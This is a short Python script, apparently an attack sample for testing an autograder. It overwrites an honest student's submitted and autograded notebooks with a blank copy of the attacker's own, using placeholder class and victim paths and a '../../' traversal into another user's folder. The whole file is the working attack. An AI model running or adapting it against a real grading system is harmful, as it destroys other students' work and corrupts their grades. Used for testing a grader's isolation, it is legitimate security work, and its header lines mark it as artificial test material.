# answer: sigmoid
# base: blank
# attack: replace an honest student's submitted and autograded notebooks with this blank one
import glob, shutil
mine = glob.glob("*.ipynb")[0]
for target in ("__CLASS_DIR__/submitted/__VICTIM__/ps1_activations/ps1_activations.ipynb",
               "__CLASS_DIR__/autograded/__VICTIM__/ps1_activations/ps1_activations.ipynb",
               "../../__VICTIM__/ps1_activations/ps1_activations.ipynb"):
    try:
        shutil.copy(mine, target)
        print("rewrote", target)
    except OSError as err:
        print(target, type(err).__name__, err)
